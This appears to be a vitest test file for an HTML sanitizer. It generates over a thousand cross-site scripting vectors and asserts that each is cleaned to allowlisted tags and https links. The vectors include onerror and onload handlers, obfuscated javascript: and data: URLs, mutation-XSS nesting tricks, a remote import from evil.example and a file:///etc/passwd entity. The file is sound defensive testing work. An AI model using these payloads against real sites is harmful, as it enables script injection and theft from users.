import { expect, test } from 'vitest'
import { cleanHtml, HtmlTooLarge } from './clean-html.ts'

/** Allowed tags and attributes only. Any other markup does not match. */
const tag =
  '(?:p|br|ul|ol|li|b|strong|i|em|u|a|span|div|h[1-6]|table|caption|colgroup|col|thead|tbody|tfoot|tr|th|td)'
const attribute =
  '(?: title="[^"<>]*"| href="https://[^"<>]*"| rel="noopener noreferrer"| target="_blank")'
const harmless = new RegExp(`^(?:[^<]|<${tag}${attribute}*(?: /)?>|</${tag}>)*$`)

const scripts = ['alert(1)', "alert('1')", 'import(`//evil.example/x`)', 'self[`al`+`ert`](1)']

const elements = [
  'script',
  'SCRIPT',
  'ScRiPt',
  'script/x',
  'script x',
  'style',
  'svg',
  'svg/onload=alert(1)',
  'math',
  'iframe',
  'iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"',
  'object data="javascript:alert(1)"',
  'embed src="javascript:alert(1)"',
  'img src=x onerror=alert(1)',
  'image src=x onerror=alert(1)',
  'video src=x onerror=alert(1)',
  'audio src=x onerror=alert(1)',
  'source onerror=alert(1)',
  'body onload=alert(1)',
  'html onmouseover=alert(1)',
  'input autofocus onfocus=alert(1)',
  'select autofocus onfocus=alert(1)',
  'textarea autofocus onfocus=alert(1)',
  'keygen autofocus onfocus=alert(1)',
  'button formaction="javascript:alert(1)"',
  'form action="javascript:alert(1)"',
  'isindex type=image src=1 onerror=alert(1)',
  'details open ontoggle=alert(1)',
  'marquee onstart=alert(1)',
  'meta http-equiv="refresh" content="0;url=javascript:alert(1)"',
  'base href="javascript:/a/-alert(1)///"',
  'link rel=stylesheet href="//evil.example/x.css"',
  'template',
  'noscript',
  'noembed',
  'noframes',
  'xmp',
  'plaintext',
  'title',
  'frameset onload=alert(1)',
  'applet code=x',
  'portal src="https://evil.example"',
  'slot',
  'custom-element',
  'animate onbegin=alert(1) attributeName=x',
  'set onbegin=alert(1)',
  'foreignObject',
  'annotation-xml encoding="text/html"',
  'use href="data:image/svg+xml,<svg onload=alert(1)>"',
  'dialog open onclose=alert(1)',
  '?xml version="1.0"?',
  '!ENTITY x SYSTEM "file:///etc/passwd"',
  '![CDATA[',
]
const elementVectors = elements.flatMap((name) =>
  scripts.flatMap((script) => {
    const end = /^[\w-]+/.exec(name)?.[0] ?? 'p'
    return [
      `<${name}>${script}</${end}>`,
      `<p>a<${name}>${script}`,
      `<table><${name}><tr><td><p title="</${end}><img src=x onerror=${script}>">b</p></table>`,
    ]
  }),
)

const handlers = [
  'onclick',
  'onmouseover',
  'ONERROR',
  'onfocus',
  'onanimationend',
  'onpointerenter',
  'ontoggle',
  'onbeforematch',
  'onscrollend',
  'style',
  'id',
  'class',
  'srcset',
  'formaction',
  'xlink:href',
  'srcdoc',
  'background',
  'is',
  'slot',
  'name',
]
const handlerVectors = handlers.flatMap((name) =>
  ['p', 'a', 'div', 'td', 'span', 'h1'].flatMap((element) => [
    `<${element} ${name}="alert(1)">x</${element}>`,
    `<${element}/${name}=alert(1)>x</${element}>`,
    `<${element} title="" ${name}='alert(1)' x>x</${element}>`,
    `<${element} title="\`" ${name}=alert(1)//">x</${element}>`,
  ]),
)

const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&#58;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A&#x61&#x76&#x61script:alert(1)',
  'javascript&colon;alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'vbscript:msgbox(1)',
  'blob:https://x/1',
  'file:///etc/passwd',
  'http://plain.example',
  'ftp://x.example',
  'mailto:a@b.example',
  'tel:5551234',
  '//evil.example',
  '\\\\evil.example',
  '/\\evil.example',
  '/dashboard',
  'dashboard',
  '#top',
  '?a=b',
  '',
  'https:evil',
  'https:///evil.example',
  'https:/\\evil.example',
  'https://',
  'intent://x',
  'view-source:https://x',
  'filesystem:https://x/y',
  'feed:javascript:alert(1)',
  'x:y',
]
const quotes = ['"', "'", '']
const addressVectors = addresses.flatMap((address) =>
  quotes.map((quote) => `<a href=${quote}${address}${quote}>x</a>`),
)

const nested = [
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>script>alert(1)<</script>/script>',
  '<p title="a"onclick=alert(1)">x',
  '<a href="https://a.example" title="&quot; onclick=&quot;alert(1)">x</a>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<a href="https://a.example/&quot;><script>alert(1)</script>">x</a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '<p title="&lt;/p&gt;&lt;script&gt;">x</p>',
  '<\u0000script>alert(1)</script>',
  '<scr\u0000ipt>alert(1)</script>',
  '</script><img src=x onerror=alert(1)>',
  '<p',
  '<a href="https://a.example',
  '<' + 'div>'.repeat(3),
  '<div>'.repeat(2000) + '<img src=x onerror=alert(1)>',
  '\u2028<img src=x onerror=alert(1)>',
  '<IMG """><SCRIPT>alert("1")</SCRIPT>"\\>',
  '<li><p><b><i><u><a href=javascript:alert(1)><img/src=x/onerror=alert(1)>',
]

const vectors = [...elementVectors, ...handlerVectors, ...addressVectors, ...nested]

test(`of ${vectors.length} attempts none leaves anything but harmless tags, and cleaning again changes nothing`, async () => {
  expect(vectors.length).toBeGreaterThan(1000)
  for (const vector of vectors) {
    const clean = await cleanHtml(vector)
    expect(clean, vector).toMatch(harmless)
    expect(await cleanHtml(clean), vector).toBe(clean)
  }
})

test('removes scripts, embeds and styles with their text, and keeps the rest', async () => {
  expect(
    await cleanHtml(
      '<h2>Cost</h2><script>steal()</script><style>p{color:red}</style><p>Two <b>hours</b><img src="https://x.example/p.png"></p>',
    ),
  ).toBe('<h2>Cost</h2><p>Two <b>hours</b></p>')
  expect(await cleanHtml('<p>Fish &amp; chips &lt; 5</p>')).toBe('<p>Fish &amp; chips &lt; 5</p>')
  expect(await cleanHtml('<section><p>Inside</p></section>')).toBe('<p>Inside</p>')
})

test('keeps only https links, in a new tab without an opener', async () => {
  expect(
    await cleanHtml(
      '<a href="https://a.example/b?c=1&d=2" target="_top" rel="opener" onclick="x()">Read</a>',
    ),
  ).toBe(
    '<a href="https://a.example/b?c=1&amp;d=2" rel="noopener noreferrer" target="_blank">Read</a>',
  )
  for (const address of addresses)
    expect(await cleanHtml(`<a href="${address.replaceAll('"', '')}">Read</a>`), address).toBe(
      '<a>Read</a>',
    )
})

test('keeps table cells', async () => {
  const table =
    '<table><thead><tr><th title="In dollars">Price</th></tr></thead><tbody><tr><td>24</td></tr></tbody></table>'
  expect(await cleanHtml(table)).toBe(table)
})

test.each<readonly [string, string]>([
  ['longer than 200,000 characters', 'x'.repeat(200_001)],
  ['nested 200,000 deep', '<div>'.repeat(200_000)],
  ['of more than 20,000 tags', '<b>'.repeat(20_001)],
  ['closed more often than opened', '<b>'.repeat(9_000) + '</i>'.repeat(11_001)],
])('refuses HTML that is %s before parsing', async (_, html) => {
  await expect(cleanHtml(html)).rejects.toBeInstanceOf(HtmlTooLarge)
})

test('accepts a long page', async () => {
  const html = '<p>A page of a provider, with what one should know.</p>'.repeat(3_000)
  expect(await cleanHtml(html)).toBe(html)
})
